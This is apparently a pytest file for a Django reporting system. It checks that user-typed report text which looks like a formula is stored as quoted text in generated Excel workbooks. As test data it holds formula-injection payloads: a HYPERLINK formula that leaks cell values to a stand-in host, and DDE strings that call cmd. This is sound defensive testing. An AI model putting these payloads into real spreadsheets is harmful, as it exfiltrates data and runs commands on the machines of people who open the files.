"""What a person typed is text in every compiled workbook: never a formula, and it reads back unchanged."""

from __future__ import annotations

import re
import zipfile

import pytest
from openpyxl import load_workbook

from campaign.models import ReportingPeriod
from reports.compilations.models import Compilation
from reports.models import ProgressReport
from tests.factories import make_report
from tests.reports.compilations.test_outputs import compile_now

pytestmark = pytest.mark.django_db

# The audit's payloads, and the other first characters a spreadsheet reads as the start of a formula.
HYPERLINK = '=HYPERLINK("http://x.example/?d="&C2&D2,"点击查看附件")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
ERROR_LOOKALIKE = "#N/A"


@pytest.fixture
def hostile(plan, unit_a):
    q3 = ReportingPeriod.objects.get(year=2024, quarter=3)
    ReportingPeriod.objects.filter(year=2024).update(state=ReportingPeriod.State.CLOSED)
    make_report(
        period=q3,
        unit=unit_a,
        task=3,
        state=ProgressReport.State.APPROVED,
        progress=HYPERLINK,
        problems=DDE,
        next_steps=PLUS,
        metrics={"materials": 10},
    )
    make_report(
        period=q3,
        unit=unit_a,
        task=26,
        state=ProgressReport.State.SUBMITTED,
        progress=MINUS,
        problems=AT,
        next_steps=ERROR_LOOKALIKE,
    )
    return q3


def _compile(user, kind, q3, unit_a):
    scope = {
        "quarterly": {"period": q3},
        "ledger": {},
        "unit": {"unit": unit_a},
        "task": {"task": 3},
        "annual": {"year": 2024},
    }[kind]
    return compile_now(user, kind=kind, format="xlsx", **scope)


@pytest.mark.parametrize("kind", ["quarterly", "ledger", "unit", "task", "annual"])
def test_report_text_that_looks_like_a_formula_is_written_as_text(office_user, hostile, unit_a, kind):
    compilation = _compile(office_user, kind, hostile, unit_a)
    if compilation.format != Compilation.Format.XLSX:  # pragma: no cover - a kind without Excel
        pytest.skip(f"{kind} has no Excel form")

    with zipfile.ZipFile(compilation.file.path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        xml = {name: archive.read(name).decode() for name in sheets}
    assert sheets
    for name, body in xml.items():
        assert not re.search(r"<(\w+:)?f[\s>/]", body), f"{name} holds a formula"
        assert 't="e"' not in body, f"{name} holds an error cell"

    ledger = load_workbook(compilation.file.path)["台账"]
    texts = {cell.value for row in ledger.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)}
    if kind == "task":
        expected = {HYPERLINK, DDE, PLUS}
    else:
        expected = {HYPERLINK, DDE, PLUS, MINUS, AT, ERROR_LOOKALIKE}
    assert expected <= texts
    for row in ledger.iter_rows(min_row=2):
        for cell in row:
            if cell.value in expected:
                assert cell.data_type == "s"
                # Excel's quote prefix keeps the cell text when someone edits it
                assert cell.quotePrefix == (cell.value != ERROR_LOOKALIKE)


def test_control_characters_pasted_from_word_do_not_fail_the_workbook(office_user, plan, unit_a):
    q3 = ReportingPeriod.objects.get(year=2024, quarter=3)
    make_report(period=q3, unit=unit_a, task=3, progress="第一段\x0b第二段\x01", problems="=1+1\x0b")

    compilation = compile_now(office_user, kind="quarterly", format="xlsx", period=q3)

    rows = list(load_workbook(compilation.file.path)["台账"].iter_rows(min_row=2, values_only=True))
    assert rows[0][6:8] == ("第一段第二段", "=1+1")
